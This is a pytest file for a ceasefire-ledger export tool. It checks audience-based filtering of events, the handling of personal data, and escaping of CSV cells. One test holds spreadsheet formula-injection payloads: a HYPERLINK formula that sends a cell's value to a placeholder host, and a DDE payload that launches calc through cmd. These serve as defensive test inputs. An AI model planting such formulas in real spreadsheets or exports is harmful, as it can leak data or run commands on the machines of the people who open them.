"""Exports honour their audience (issue 10, F8-F11): the day summary is replayed from what the
audience may see, personal data only for the people those events name, a default list opens
only with a framework release on or after its day, and no CSV cell runs as a formula."""

from __future__ import annotations

import csv
import io
import json
import os
import subprocess
from collections.abc import Iterator
from datetime import datetime
from pathlib import Path
from typing import Any

import apsw
import pytest

from tests.conftest import EXAMPLES, truce_exe
from truce.errors import BadInput, IntegrityError
from truce.events import EVENT_ADAPTER
from truce.ledger.directory import LedgerDir
from truce.ledger.export import csv_cell, day_events, export, visible
from truce.ledger.people import DB_NAME, People
from truce.ledger.record import read_file, record

GAZA = EXAMPLES / "gaza-2023"
ENV = {**os.environ, "COLUMNS": "200"}
# Plain, unsigned declarations by the reference mediator (no key in the 2023 terms).
BASE = {"recorded_at": "2023-12-01T10:00+02:00", "declared_by": "qatar", "recorded_by": "test"}
HEADER = (
    "date,live_released,bodies_released,outside_framework,separate_track,credited,"
    "prisoners_released,aid_trucks"
)


def run(*args: str | Path) -> tuple[int, str, str]:
    p = subprocess.run(
        [truce_exe(), *map(str, args)], capture_output=True, text=True, timeout=120, env=ENV
    )
    return p.returncode, p.stdout, p.stderr


def add(d: LedgerDir, *events: dict[str, Any]) -> None:
    """Record plain events (BASE fields unless given)."""
    evs = [EVENT_ADAPTER.validate_python({**BASE, **e}) for e in events]
    record(d, evs, [str(e["id"]) for e in events])


def ids(recs: list[Any]) -> set[str]:
    return {r.event.id for r in recs}


def days(d: LedgerDir, audience: str) -> dict[str, str]:
    """The day summary an audience gets, as date -> the rest of the row."""
    text = export(d, "days", audience)
    assert text is not None
    lines = text.splitlines()
    assert lines[0] == HEADER
    return dict(line.split(",", 1) for line in lines[1:])


@pytest.fixture
def gaza(tmp_path: Path) -> Iterator[LedgerDir]:
    """The recorded 2023 ledger, built in-process."""
    d = LedgerDir.init(
        tmp_path / "gaza", GAZA / "terms.toml", at=datetime.fromisoformat("2023-11-22T09:00+02:00")
    )
    events, origins = read_file(d, GAZA / "ledger.jsonl")
    record(d, events, origins)
    with d:
        yield d


@pytest.fixture
def bare(tmp_path: Path) -> Iterator[LedgerDir]:
    """A ledger bound to the 2023 terms with no events yet (pause day 1 starts 24 Nov 07:00)."""
    d = LedgerDir.init(
        tmp_path / "bare", GAZA / "terms.toml", at=datetime.fromisoformat("2023-11-22T09:00+02:00")
    )
    with d:
        yield d


# -- F8: the day summary is replayed from what the audience may see ----------------------------


def test_days_count_only_what_the_audience_may_see(gaza: LedgerDir) -> None:
    before = days(gaza, "mediator")
    assert before["2023-11-25"] == "13,0,0,4,0,39,199"
    assert before["2023-11-26"] == "13,0,1,3,0,39,201"
    add(
        gaza,
        {
            "id": "secret-aid",
            "type": "aid_delivered",
            "at": "2023-11-26T20:00+02:00",
            "basis": "received",
            "trucks": 137,
            "date": "2023-11-26",
            "visibility": "mediator",
        },
        {
            "id": "parties-separate",
            "type": "captives_released",
            "track": "separate",
            "at": "2023-11-25T18:00+02:00",
            "live": 5,
            "visibility": "parties",
        },
    )
    assert days(gaza, "public") == before
    assert days(gaza, "parties") == before | {"2023-11-25": "13,0,0,9,0,39,199"}
    assert days(gaza, "mediator") == before | {
        "2023-11-25": "13,0,0,9,0,39,199",
        "2023-11-26": "13,0,1,3,0,39,338",
    }


def test_days_with_references_to_hidden_events(gaza: LedgerDir) -> None:
    """A list still secret (its day has no release yet): the extension agreed for it is kept
    without the list, the acceptance of it is left out; a credit of a hidden release is left
    out, a count-only credit that the visible releases cover is kept."""
    before = days(gaza, "mediator")
    assert before["2023-11-30"] == "8,0,0,0,2,30,99"
    add(
        gaza,
        {
            "id": "list-8",
            "type": "list_announced",
            "at": "2023-11-30T20:00+02:00",
            "for_day": 8,
            "live": 10,
        },
        {
            "id": "ext-3",
            "type": "extension_agreed",
            "at": "2023-11-30T21:00+02:00",
            "days": 1,
            "for_list": "list-8",
        },
        {
            "id": "list-8-ok",
            "type": "list_accepted",
            "at": "2023-11-30T21:05+02:00",
            "list": "list-8",
        },
        {
            "id": "quiet-outside",
            "type": "captives_released",
            "track": "outside",
            "at": "2023-11-30T09:00+02:00",
            "live": 1,
            "visibility": "mediator",
        },
        {
            "id": "credit-named",
            "type": "credit_granted",
            "at": "2023-11-30T10:00+02:00",
            "toward_day": 7,
            "count": 1,
            "releases": ["quiet-outside"],
        },
        {
            "id": "credit-counted",
            "type": "credit_granted",
            "at": "2023-11-30T11:00+02:00",
            "toward_day": 7,
            "count": 1,
        },
    )
    recs = gaza.all_records
    public = visible(recs, "public")
    assert "list-8" not in ids(public)
    replayed = {r.event.id: r.event for r in day_events(recs, public, gaza.terms)}
    assert replayed["ext-3"].for_list is None  # type: ignore[union-attr]
    assert "list-8-ok" not in replayed
    assert "credit-named" not in replayed  # names a hidden release
    # 3 released outside the framework are visible (26 and 29 Nov), 2 already credited: the
    # count-only credit is covered by the one left.
    assert "credit-counted" in replayed
    got = days(gaza, "public")
    assert {k: got[k] for k in before} == before | {"2023-11-30": "8,0,0,0,3,30,99"}
    mediator = days(gaza, "mediator")
    assert {k: mediator[k] for k in before} == before | {"2023-11-30": "8,0,1,0,4,30,99"}
    assert got.keys() == mediator.keys()


def test_days_leave_out_a_credit_the_visible_releases_do_not_cover(gaza: LedgerDir) -> None:
    add(
        gaza,
        {
            "id": "quiet-outside",
            "type": "captives_released",
            "track": "outside",
            "at": "2023-11-30T09:00+02:00",
            "live": 1,
            "visibility": "parties",
        },
        {
            "id": "credit-2",
            "type": "credit_granted",
            "at": "2023-11-30T11:00+02:00",
            "toward_day": 7,
            "count": 2,
        },
    )
    assert days(gaza, "public")["2023-11-30"] == "8,0,0,0,2,30,99"
    assert days(gaza, "parties")["2023-11-30"] == "8,0,1,0,4,30,99"


def test_days_leave_out_a_correction_of_a_hidden_event(gaza: LedgerDir) -> None:
    """The corrected event is hidden, so its correction is left out of the public replay; a
    hidden correction of a public event changes nothing for the public."""
    add(
        gaza,
        {
            "id": "aid-a",
            "type": "aid_delivered",
            "at": "2023-11-26T20:00+02:00",
            "basis": "received",
            "trucks": 137,
            "date": "2023-11-26",
            "visibility": "mediator",
        },
        {
            "id": "aid-b",
            "type": "aid_delivered",
            "at": "2023-11-26T20:00+02:00",
            "basis": "received",
            "trucks": 150,
            "date": "2023-11-26",
            "supersedes": "aid-a",
        },
        {
            "id": "aid-c",
            "type": "aid_delivered",
            "at": "2023-11-27T20:00+02:00",
            "basis": "received",
            "trucks": 20,
            "date": "2023-11-27",
        },
        {
            "id": "aid-d",
            "type": "aid_delivered",
            "at": "2023-11-27T20:00+02:00",
            "basis": "received",
            "trucks": 25,
            "date": "2023-11-27",
            "supersedes": "aid-c",
            "visibility": "mediator",
        },
    )
    public = days(gaza, "public")
    assert (public["2023-11-26"], public["2023-11-27"]) == (
        "13,0,1,3,0,39,201",
        "11,0,0,0,0,33,126",
    )
    mediator = days(gaza, "mediator")
    assert (mediator["2023-11-26"], mediator["2023-11-27"]) == (
        "13,0,1,3,0,39,351",
        "11,0,0,0,0,33,131",
    )


# -- every format honours the audience --------------------------------------------------------


def test_every_format_honours_the_audience(gaza: LedgerDir, tmp_path: Path) -> None:
    add(
        gaza,
        {
            "id": "secret-claim",
            "type": "claim",
            "at": "2023-11-27T12:00+02:00",
            "text": "a claim for the mediator only",
            "visibility": "mediator",
        },
        {
            "id": "parties-claim",
            "type": "claim",
            "at": "2023-11-27T12:00+02:00",
            "text": "a claim for the parties",
            "visibility": "parties",
        },
    )
    expected = {"public": 42, "parties": 43, "mediator": 44}  # plus the terms_set at seq 1
    for audience, n in expected.items():
        jsonl = export(gaza, "jsonl", audience)
        assert jsonl is not None
        got = [json.loads(line)["id"] for line in jsonl.splitlines()]
        assert len(got) == n + 1
        assert ("secret-claim" in got) == (audience == "mediator")
        assert ("parties-claim" in got) == (audience != "public")
        text = export(gaza, "csv", audience)
        assert text is not None
        table = list(csv.DictReader(io.StringIO(text)))
        assert len(table) == n + 1
        assert ("secret-claim" in {r["id"] for r in table}) == (audience == "mediator")
        assert ("parties-claim" in {r["id"] for r in table}) == (audience != "public")
    pytest.importorskip("pyarrow", reason="pyarrow (the parquet extra) is not installed")
    import pyarrow.parquet as pq

    for audience, n in expected.items():
        out = tmp_path / f"{audience}.parquet"
        assert export(gaza, "parquet", audience, out=out) is None
        got = pq.read_table(out).column("id").to_pylist()
        assert len(got) == n + 1
        assert ("secret-claim" in got) == (audience == "mediator")
        assert ("parties-claim" in got) == (audience != "public")


# -- F9: personal data only for the people the visible events name -----------------------------


def test_personal_data_only_for_people_the_audience_sees(gaza: LedgerDir) -> None:
    with People.open(gaza.path) as people:
        seen = people.add("captive", "case-seen", {"name": "Seen Captive"})
        hidden = people.add("captive", "case-hidden", {"name": "Hidden Captive"})
        listed = people.add("captive", "case-listed", {"name": "Listed Captive"})
        prisoner = people.add("prisoner", "case-prisoner", {"name": "Seen Prisoner"})
        people.add("captive", "case-nowhere", {"name": "Named Nowhere"})
    add(
        gaza,
        {
            "id": "rel-seen",
            "type": "captives_released",
            "track": "separate",
            "at": "2023-11-30T19:00+02:00",
            "captives": [{"id": seen}],
        },
        {
            "id": "rel-hidden",
            "type": "captives_released",
            "track": "separate",
            "at": "2023-11-30T19:30+02:00",
            "captives": [{"id": hidden}],
            "visibility": "mediator",
        },
        {
            "id": "list-8",
            "type": "list_announced",
            "at": "2023-11-30T20:00+02:00",
            "for_day": 8,
            "captives": [{"id": listed}],
        },
        {
            "id": "pr-seen",
            "type": "prisoners_released",
            "at": "2023-11-30T21:00+02:00",
            "count": 1,
            "prisoners": [{"id": prisoner}],
        },
    )

    def names(audience: str) -> set[str]:
        text = export(gaza, "jsonl", audience, include_personal=True)
        assert text is not None
        rows = [json.loads(line) for line in text.splitlines()]
        return {r["person"]["fields"]["name"] for r in rows if "person" in r}

    assert names("public") == {"Seen Captive", "Seen Prisoner"}
    assert names("parties") == {"Seen Captive", "Seen Prisoner"}
    assert names("mediator") == {
        "Seen Captive",
        "Hidden Captive",
        "Listed Captive",
        "Seen Prisoner",
    }
    plain = export(gaza, "jsonl", "mediator")
    assert plain is not None and "Captive" not in plain


def test_a_role_changed_in_people_db_fails_the_export(gaza: LedgerDir) -> None:
    with People.open(gaza.path) as people:
        pid = people.add("captive", "case-1", {"name": "Test Person One"})
    add(
        gaza,
        {
            "id": "rel-1",
            "type": "captives_released",
            "track": "separate",
            "at": "2023-11-30T19:00+02:00",
            "captives": [{"id": pid}],
        },
    )
    conn = apsw.Connection(str(gaza.path / DB_NAME))
    conn.execute("UPDATE person SET role = 'prisoner' WHERE pseudonym = ?", (pid,))
    conn.close()
    with pytest.raises(IntegrityError, match=pid):
        export(gaza, "jsonl", "public", include_personal=True)
    code, _, err = run("export", gaza.path, "--include-personal")
    assert code == 3, err
    assert pid in err


# -- F10: a default list opens with a framework release on or after its day --------------------


def test_a_list_opens_only_with_a_framework_release_on_or_after_its_day(bare: LedgerDir) -> None:
    add(
        bare,
        {
            "id": "list-3",
            "type": "list_announced",
            "at": "2023-11-25T20:00+02:00",
            "for_day": 3,
            "live": 10,
        },
        {"id": "list-undated", "type": "list_announced", "at": "2023-11-25T22:00+02:00", "live": 4},
        {
            "id": "list-3-parties",
            "type": "list_announced",
            "at": "2023-11-25T20:00+02:00",
            "for_day": 3,
            "live": 10,
            "visibility": "parties",
        },
        # On day 2, after list-3 was announced but before day 3 (26 Nov 07:00) begins.
        {"id": "rel-2", "type": "captives_released", "at": "2023-11-25T21:00+02:00", "live": 1},
    )

    def public() -> set[str]:
        return {r.event.id for r in visible(bare.all_records, "public") if r.seq > 1}

    assert public() == {"rel-2"}
    # Outside the framework, on day 3: opens nothing.
    add(
        bare,
        {
            "id": "rel-3-outside",
            "type": "captives_released",
            "track": "outside",
            "at": "2023-11-26T10:00+02:00",
            "live": 1,
        },
    )
    assert public() == {"rel-2", "rel-3-outside"}
    # A framework release the public may not see opens nothing for the public.
    add(
        bare,
        {
            "id": "rel-3-parties",
            "type": "captives_released",
            "at": "2023-11-26T12:00+02:00",
            "live": 1,
            "visibility": "parties",
        },
    )
    assert public() == {"rel-2", "rel-3-outside"}
    assert {"list-3", "list-undated", "list-3-parties"} <= ids(visible(bare.all_records, "parties"))
    # A framework release on day 3: both default lists open; the explicit one keeps its level.
    add(
        bare,
        {"id": "rel-3", "type": "captives_released", "at": "2023-11-26T16:00+02:00", "live": 1},
    )
    assert public() == {"rel-2", "rel-3-outside", "rel-3", "list-3", "list-undated"}
    # Without terms given, the calendar comes from the ledger's own terms (as `truce log` does).
    terms = bare.terms
    assert ids(visible(bare.all_records, "public")) == ids(
        visible(bare.all_records, "public", terms)
    )
    code, out, err = run("log", bare.path, "--audience", "public", "--json")
    assert code == 0, err
    logged = {json.loads(line)["event"]["id"] for line in out.splitlines()}
    assert {"list-3", "list-undated"} <= logged and "list-3-parties" not in logged


def test_an_undated_list_opens_with_a_release_at_or_after_its_own_time(bare: LedgerDir) -> None:
    add(
        bare,
        {"id": "rel-1", "type": "captives_released", "at": "2023-11-24T16:00+02:00", "live": 1},
        {"id": "list-x", "type": "list_announced", "at": "2023-11-24T17:00+02:00", "live": 3},
    )
    assert "list-x" not in ids(visible(bare.all_records, "public"))
    add(
        bare,
        {"id": "rel-1b", "type": "captives_released", "at": "2023-11-24T17:00+02:00", "live": 1},
    )
    assert "list-x" in ids(visible(bare.all_records, "public"))


# -- F11: no CSV cell runs as a formula ---------------------------------------------------------


def test_csv_cells_that_start_a_formula_are_quoted(gaza: LedgerDir, tmp_path: Path) -> None:
    texts = {
        "c-eq": '=HYPERLINK("http://example.invalid/?x="&A1,"click")',
        "c-plus": "+1+cmd|' /C calc'!A0",
        "c-minus": "-2+3",
        "c-at": "@SUM(1,1)",
        "c-tab": "\t=1+1",
        "c-cr": "\r=1+1",
        "c-plain": "a = b",
    }
    add(
        gaza,
        *(
            {"id": i, "type": "claim", "at": "2023-11-27T12:00+02:00", "text": t}
            for i, t in texts.items()
        ),
    )
    text = export(gaza, "csv", "public")
    assert text is not None
    table = {r["id"]: r for r in csv.DictReader(io.StringIO(text, newline=""))}
    for i, t in texts.items():
        want = t if i == "c-plain" else "'" + t
        assert table[i]["text"] == want
        assert json.loads(table[i]["event"])["text"] == t  # the event column starts with "{"
    assert table["ext-2"]["note"].startswith("'+1 day to 07:00 Fri 1 Dec")
    for row in table.values():
        for cell in row.values():
            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), cell
    days = export(gaza, "days", "public")
    assert days is not None
    for line in days.splitlines()[1:]:
        for cell in line.split(","):
            assert cell == "" or cell[0].isdigit(), line
    pytest.importorskip("pyarrow", reason="pyarrow (the parquet extra) is not installed")
    import pyarrow.parquet as pq

    out = tmp_path / "e.parquet"
    export(gaza, "parquet", "public", out=out)
    got = pq.read_table(out).to_pylist()
    assert {r["id"]: r["text"] for r in got if r["id"] in texts} == texts  # typed: unchanged


def test_csv_cell() -> None:
    assert csv_cell("=1") == "'=1"
    assert csv_cell("+1") == "'+1"
    assert csv_cell("-1") == "'-1"
    assert csv_cell("@x") == "'@x"
    assert csv_cell("\tx") == "'\tx"
    assert csv_cell("\rx") == "'\rx"
    assert csv_cell("x=1") == "x=1"
    assert csv_cell("") == ""
    assert csv_cell(-3) == -3  # a number is written as a number
    assert csv_cell(0) == 0


# -- --out names its path ----------------------------------------------------------------------


def test_out_in_a_missing_directory_is_bad_input(gaza: LedgerDir, tmp_path: Path) -> None:
    missing = tmp_path / "no" / "such" / "dir"
    for fmt in ("jsonl", "csv", "days", "parquet"):
        with pytest.raises(BadInput, match="no directory"):
            export(gaza, fmt, "public", out=missing / f"e.{fmt}")
    for fmt in ("csv", "parquet"):
        target = missing / f"e.{fmt}"
        code, _, err = run("export", gaza.path, "--format", fmt, "--out", target)
        assert code == 2, err
        assert str(target) in "".join(err.split())  # however the message is wrapped
    assert not (tmp_path / "no").exists()
    with pytest.raises(BadInput, match="cannot write"):
        export(gaza, "csv", "public", out=tmp_path)  # a directory, not a file
    out = tmp_path / "ok.csv"
    assert export(gaza, "csv", "public", out=out) is None
    assert len(out.read_text().splitlines()) == 44
